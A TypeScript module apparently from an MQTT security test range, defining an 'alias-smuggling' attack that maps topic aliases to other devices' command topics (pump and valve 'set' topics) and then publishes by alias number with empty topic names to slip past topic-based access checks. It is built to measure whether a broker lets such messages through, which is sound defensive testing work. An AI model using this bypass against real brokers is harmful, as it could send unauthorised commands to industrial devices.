import type { Attack } from './attack.ts'
import { aliased } from './packets.ts'

/**
 * Defines topic aliases for forbidden topics and then publishes by number alone, so that a check of the visible topic
 * sees nothing. Effect: messages that arrived on a topic that is not the attacker's.
 */
export const aliasSmuggling: Attack = {
  name: 'alias-smuggling',
  technique: 'T1692.001',
  title: 'Reach a command topic through topic aliases',
  expected: 'access',
  alone: false,
  needs5: true,
  seconds: () => 3,
  async run(range) {
    await range.proveAccess()
    const { marker, sighting } = range.mark()
    const own = range.topic(range.device, 'telemetry')
    const payload = JSON.stringify({ ts: Date.now(), trace: marker, source: 'controller-1', value: 1 })
    const attempts = await range.deliver(5, [
      aliased({ topic: range.topic('pump-2', 'set'), payload }, 1),
      aliased({ topic: '', payload }, 1),
      aliased({ topic: own, payload }, 2),
      aliased({ topic: range.topic('valve-3', 'set'), payload }, 2),
      aliased({ topic: '', payload }, 2),
      aliased({ topic: '', payload }, 1),
    ])
    let effect = 0
    for (const [topic, count] of sighting.topics) if (topic !== own) effect += count
    return { attempts, effect, detail: `${effect} of ${attempts} messages arrived on a topic of another device` }
  },
}
